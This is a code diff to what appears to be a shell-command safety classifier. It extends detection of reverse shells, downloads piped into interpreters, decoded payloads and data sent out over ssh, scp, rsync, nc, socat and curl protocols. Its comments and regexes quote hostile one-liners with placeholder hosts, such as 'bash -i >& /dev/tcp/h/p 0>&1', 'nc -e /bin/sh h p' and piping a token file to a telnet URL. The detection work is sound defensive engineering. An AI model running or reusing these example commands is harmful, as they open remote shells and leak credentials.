@@ -179,8 +179,14 @@ export function commandShape(words: readonly string[], source?: string, setting:
 
 /** A substitution whose output is the environment or a credential (`$(cat …/token)`, `$(env)`): followed through a variable. */
 function carriesCredential(inner: string): boolean {
-  return CREDENTIAL_PATH.test(inner) || ENV_INLINE.test(`$(${inner})`);
+  return CREDENTIAL_PATH.test(inner) || ENV_INLINE.test(`$(${inner})`) || DOWNLOAD_OR_DECODE.test(inner);
 }
+
+/**
+ * A substitution whose output is a download or a decoded text (`s=$(curl …)`, `s=$(… | base64 -d)`):
+ * followed too, so that `echo "$s" | sh` is the download piped into the interpreter.
+ */
+const DOWNLOAD_OR_DECODE = /(?:^|[\s|;&(])(?:[\w./-]*\/)?(?:curl|wget|fetch|aria2c)\s|\bbase(?:64|32)\s+(?:-[a-zA-Z]*d|--decode)/;
 
 /** The interpreter a script's `#!` line names (`#!/usr/bin/env python3` is python3), else sh. */
 function shebangOf(source: string): string[] {
@@ -225,10 +231,14 @@ function clusterEnv(script: string, setting: CommandSetting): ReadonlyMap<string
 const DOWNLOADERS = new Set(['curl', 'wget', 'fetch', 'aria2c']);
 const INTERPRETERS = new Set(['sh', 'bash', 'ash', 'dash', 'zsh', 'ksh', 'mksh', 'python', 'python2', 'python3', 'perl', 'ruby', 'node', 'php', 'pwsh', 'powershell', 'lua', 'eval', 'source', '.']);
 const SENDERS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet']);
+const REMOTE_COPIERS = new Set(['ssh', 'scp', 'sftp']);
+/** A socket client told to run a program for its peer (`nc -e /bin/sh h p`, `socat TCP:h:p EXEC:sh`). */
+const REMOTE_SHELL = /^(?:-[a-zA-Z]*[ec]|--(?:exec|sh-exec|lua-exec))$/;
+const SOCAT_PROGRAM = /\b(?:EXEC|SYSTEM):\s*['"]?(?:[\w./-]*\/)?(?:sh|bash|ash|dash|zsh|ksh|python[0-9.]*|perl)\b/i;
 /** curl's and wget's flags that send a body (curl `-d@-`, `--data-binary @file`, `-F`, `-T`). */
 const SEND_FLAG = /^(?:-d|-F|-T|--data(?:-[a-z]+)?|--form(?:-string)?|--upload-file|--json|--post-(?:data|file)|--body-(?:data|file))(?:$|=|@)|^-[a-zA-Z]*[dFT](?:$|@)/;
 /** curl's and wget's flags that write a file (`-o x`, `-O`, `--output`, wget's default unless `-O-`). */
-const FILE_FLAG = /^(?:-o|-O|--output|--remote-name(?:-all)?|--output-document|-[a-zA-Z]*[oO])(?:$|=)/;
+const FILE_FLAG = /^(?:-o|-O|--output|--remote-name(?:-all)?|--output-document|-[a-zA-Z]*[oO])(?:$|=)|^-[a-zA-Z]*O[a-zA-Z]+$/;
 const AWKS = new Set(['awk', 'gawk', 'mawk', 'nawk']);
 const UNPACKERS = new Set(['tar', 'unzip', 'gunzip', 'bunzip2', 'xz', 'unxz', 'zcat', 'cpio', 'busybox']);
 /**
@@ -322,7 +332,8 @@ function scriptShape(script: string, setting: CommandSetting, work: CommandWork)
   // The whole-script passes (clusterEnv, sendsInCode), then each segment as it is split.
   if (!work.take(2 * script.length)) return 'over_budget';
   const inCluster = clusterEnv(script, setting);
-  for (const segment of script.split(/&&|\|\||;|&|\n/)) {
+  // A `&` of a redirection (`>& /dev/tcp/…`, `2>&1`, `&> f`) is not a command's end.
+  for (const segment of script.split(/&&|\|\||;|(?<![<>])&(?!>)|\n/)) {
     const parts = segment.split('|');
     if (!work.take(segment.length + PIECE_COST * parts.length)) return 'over_budget';
     const stages = parts.map(stageOf);
@@ -341,9 +352,17 @@ function scriptShape(script: string, setting: CommandSetting, work: CommandWork)
     let decodeAt = closes && groupDecoded ? 0 : -1;
     if (closes && group > 0 && --group === 0) groupFetched = groupDecoded = false;
     let sourceAt = -1;
+    let shellAt = -1;
     for (let i = 0; i < stages.length; i++) {
       const s = stages[i]!;
       if (fetchAt >= 0 && runsInput(s)) return 'fetch_run';
+      // A remote shell: the network's bytes run as commands, as they come (`bash -i >& /dev/tcp/h/p 0>&1`,
+      // `nc -e /bin/sh h p`, `socat TCP:h:p EXEC:sh`, `… | sh -i 2>&1 | nc h p > fifo`).
+      if (runsInput(s) && (s.text.includes('/dev/tcp/') || s.text.includes('/dev/udp/'))) return 'fetch_run';
+      if (SENDERS.has(s.program) && s.words.some((w) => REMOTE_SHELL.test(w)) && s.program !== 'socat') return 'fetch_run';
+      if (s.program === 'socat' && SOCAT_PROGRAM.test(s.text)) return 'fetch_run';
+      if (shellAt >= 0 && receives(s)) return 'fetch_run';
+      if (runsInput(s) && i > 0) shellAt = i;
       if (decodeAt >= 0 && runsInput(s)) return 'decoded_run';
       // `$(env)` or `$(cat …/token)` in a stage's own words: its output carries it (`echo "$(env)" | nc …`),
       // and so does what it sends or asks for (a URL, a header, a name to resolve).
@@ -449,9 +468,13 @@ function writtenFiles(s: Stage): string[] {
   }
   if (s.program === 'tee') out.push(...w.slice(1).filter((x) => !x.startsWith('-')));
   // A remote name: curl's -O, or wget with no -O of its own.
-  const remote = (s.program === 'curl' && w.some((x) => /^-[a-zA-Z]*O$|^--remote-name$/.test(x))) || (s.program === 'wget' && writesFile(s) && !w.some((x) => /^-[a-zA-Z]*O|^--output-document/.test(x)));
+  const remote = (s.program === 'curl' && w.some((x) => /^-[a-zA-Z]*O[a-zA-Z]*$|^--remote-name$/.test(x))) || (s.program === 'wget' && writesFile(s) && !w.some((x) => /^-[a-zA-Z]*O|^--output-document/.test(x)));
   if (remote) for (const url of w.filter((x) => /^[a-z]+:\/\//i.test(x))) out.push(url.replace(/[?#].*$/, '').slice(url.replace(/[?#].*$/, '').lastIndexOf('/') + 1));
-  return out.map(keptName).filter((f) => f !== '' && f !== '-');
+  // wget's `-P dir` / `--directory-prefix=dir`: the remote name inside that directory.
+  const prefix = w.findIndex((x) => x === '-P' || x.startsWith('--directory-prefix'));
+  const dir = prefix < 0 ? undefined : w[prefix]!.includes('=') ? w[prefix]!.slice(w[prefix]!.indexOf('=') + 1) : w[prefix + 1];
+  const named = dir === undefined ? out : [...out, ...out.map((f) => `${dir.replace(/\/$/, '')}/${f}`)];
+  return named.map(keptName).filter((f) => f !== '' && f !== '-');
 }
 
 /** A file's name as kept, compared: `./x` is x, `$HOME/x` is `~/x`. */
@@ -548,6 +571,10 @@ function runsInput(s: Stage): boolean {
 function isSender(s: Stage, env: ReadonlyMap<string, string> | undefined, inline: boolean): boolean {
   if (s.text.includes('/dev/tcp/') || s.text.includes('/dev/udp/')) return true;
   if (s.words.some((w) => SENDERS.has(w.slice(w.lastIndexOf('/') + 1)))) return true;
+  // ssh and scp carry what they are given to another host; rsync when one of its operands is remote.
+  if (REMOTE_COPIERS.has(s.program) || (s.program === 'rsync' && s.words.some((w) => /^[\w.-]+@|::|^rsync:\/\/|^[\w.-]+:/.test(w)))) return true;
+  // curl's protocols that send its standard input as they connect (`curl telnet://h:p < …/token`).
+  if (fetches(s) && s.words.some((w) => /^(?:telnet|smtps?|mqtt|gopher|dict):\/\//i.test(w))) return true;
   // `openssl s_client -connect h:p` relays its stdin to the peer, as nc does.
   if (s.program === 'openssl' && s.words.includes('s_client')) return true;
   // A name lookup sends the names it is given, in its words or piped (`… | xargs -I{} nslookup {}.x.example`;
